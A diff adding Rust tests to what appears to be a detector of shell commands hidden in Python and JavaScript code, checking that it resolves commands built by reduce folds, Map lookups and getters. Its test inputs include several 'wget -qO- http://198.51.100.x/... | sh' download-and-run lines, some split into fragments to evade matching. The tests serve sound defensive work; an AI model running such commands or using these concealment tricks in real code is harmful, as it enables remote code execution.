@@ -407,3 +407,62 @@ fn ordinary_functions_handed_on_are_left_alone() {
     ));
     assert!(found.is_empty(), "{found:?}");
 }
+
+#[test]
+fn a_command_folded_by_functools_reduce_is_known_at_the_call() {
+    let found = python(concat!(
+        "import os, operator\n",
+        "from functools import reduce\n",
+        "bits = ['wget -q', 'O- http://', '198.51.100.3', '/r | sh']\n",
+        "os.system(reduce(lambda a, b: a + b, bits))\n",
+        "os.popen(reduce(operator.add, ['id', ' -u'], ''))\n",
+    ));
+    assert!(
+        found
+            .iter()
+            .any(|r| r.contains("\"wget -qO- http://198.51.100.3/r | sh\"")),
+        "{found:?}"
+    );
+    assert!(found.iter().any(|r| r.contains("\"id -u\"")), "{found:?}");
+    // A reducer that calls out, or a fold of unknown items, stays unknown.
+    let found = python(concat!(
+        "import os\n",
+        "from functools import reduce\n",
+        "os.system(reduce(lambda a, b: a + b + load(), ['i', 'd']))\n",
+        "os.system(reduce(lambda a, b: a + b, read_parts()))\n",
+    ));
+    assert!(!found.iter().any(|r| r.contains("\"id\"")), "{found:?}");
+}
+
+#[test]
+fn javascript_map_entries_and_object_getters_are_read_where_used() {
+    let found = javascript(concat!(
+        "const cp = require('child_process');\n",
+        "const ops = new Map([['log', console.log], ['run', cp.execSync]]);\n",
+        "ops.get('run')('wget -qO- http://198.51.100.5/m | sh');\n",
+        "const kit = { get go() { return require('child_' + 'process').exec; }, get line() { return ['id', '-u'].join(' '); } };\n",
+        "kit.go(kit.line);\n",
+    ));
+    assert!(
+        found.iter().any(
+            |r| r.contains("execSync(\"wget -qO- http://198.51.100.5/m | sh\")")
+                || r.contains("execSync('wget -qO- http://198.51.100.5/m | sh')")
+        ),
+        "{found:?}"
+    );
+    assert!(
+        found.iter().any(|r| r.contains(".exec(\"id -u\")")),
+        "{found:?}"
+    );
+    // A map with computed entries, a missing key and a getter with statements stay unknown.
+    let found = javascript(concat!(
+        "const cp = require('child_process');\n",
+        "const ops = new Map(load());\n",
+        "ops.get('run')('wget -qO- http://198.51.100.5/m | sh');\n",
+        "const two = new Map([['log', console.log]]);\n",
+        "two.get('run')('wget -qO- http://198.51.100.5/n | sh');\n",
+        "const kit = { get go() { audit(); return cp.exec; } };\n",
+        "kit.go('wget -qO- http://198.51.100.5/k | sh');\n",
+    ));
+    assert!(!found.iter().any(|r| r.contains("wget")), "{found:?}");
+}
